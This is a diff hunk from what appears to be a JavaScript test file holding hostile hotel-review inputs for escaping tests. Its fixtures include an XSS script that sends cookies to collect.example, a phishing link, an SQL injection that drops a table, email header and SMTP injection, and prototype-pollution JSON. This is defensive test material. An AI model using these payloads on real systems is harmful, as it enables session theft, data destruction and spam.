@@ -6,7 +6,7 @@ import { longTextFor } from "./words.mjs";
 const hostile = [
   { text: "<script>fetch('https://collect.example/?c=' + document.cookie)</script><b>Awful</b> & dirty" },
   { text: "<!channel> everybody look at this hotel! <https://phish.example|Your invoice> <@U0000001>" },
-  { text: "Dear {{guest.name}}, the room was ${room.state}. %s %n {0} <%= secret %>" },
+  { text: "Dear {{guest.name}}, the room was #{room.state}. %s %n {0} <%= secret %>" },
   { text: "Robert'); DROP TABLE reviews;-- terrible breakfast' OR '1'='1" },
   { title: "Bad\r\nBcc: everybody@example.net\r\nSubject: You have won", text: "Rude staff.\r\n.\r\nQUIT\r\n" },
   { text: 'Copied from my notes: {"__proto__":{"isAdmin":true},"constructor":{"prototype":{"rating":5}}}' },
